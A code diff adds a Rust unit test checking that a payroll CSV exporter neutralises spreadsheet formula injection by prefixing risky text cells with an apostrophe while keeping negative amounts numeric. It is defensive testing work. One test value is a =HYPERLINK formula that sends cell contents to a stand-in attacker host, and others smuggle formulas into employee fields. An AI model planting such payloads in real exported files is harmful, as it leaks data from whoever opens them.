@@ -54,6 +54,62 @@ fn payroll_csv_has_a_bom_and_a_checksum_row() {
 }
 
 #[test]
+fn payroll_csv_neutralises_a_hyperlink_name_and_keeps_negative_money_a_number() {
+    let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"李娜")"#;
+    let rows = vec![
+        PayrollRow {
+            emp_no: "@SUM(1+1)".into(),
+            name: evil.into(),
+            period: "2026-11".into(),
+            total: d("-3"),
+            grade: Some("\t-优".into()),
+            bonus: d("-12.50"),
+        },
+        PayrollRow {
+            emp_no: "E2".into(),
+            name: "+李娜".into(),
+            period: "-2026-11".into(),
+            total: d("90"),
+            grade: None,
+            bonus: d("100"),
+        },
+    ];
+    let bytes = payroll_csv(&rows);
+    // Read as a spreadsheet reads it: every text cell starts with `'`, the numbers do not.
+    let mut rdr = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
+    let recs: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
+    let first: Vec<&str> = recs[0].iter().collect();
+    assert_eq!(
+        first,
+        [
+            "'@SUM(1+1)",
+            &format!("'{evil}")[..],
+            "2026-11",
+            "-3",
+            "'\t-优",
+            "-12.50"
+        ]
+    );
+    let second: Vec<&str> = recs[1].iter().collect();
+    assert_eq!(second, ["E2", "'+李娜", "'-2026-11", "90", "", "100.00"]);
+    assert_eq!(&recs[2][5], "87.50");
+    // No cell a spreadsheet would run as a formula, except number cells that are numbers.
+    for r in &recs {
+        for (i, f) in r.iter().enumerate() {
+            if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+                assert!(
+                    (i == 3 || i == 5) && f.parse::<f64>().is_ok(),
+                    "column {i}: {f:?}"
+                );
+            }
+        }
+    }
+    // The payroll still reads back as written.
+    let (back, _) = verify_payroll(&read_csv(&bytes, "pay.csv").unwrap()).unwrap();
+    assert_eq!(back, rows);
+}
+
+#[test]
 fn payroll_xlsx_reads_back_exactly_and_a_wrong_footer_is_caught() {
     let rows = payroll();
     let bytes = payroll_xlsx(&rows).unwrap();
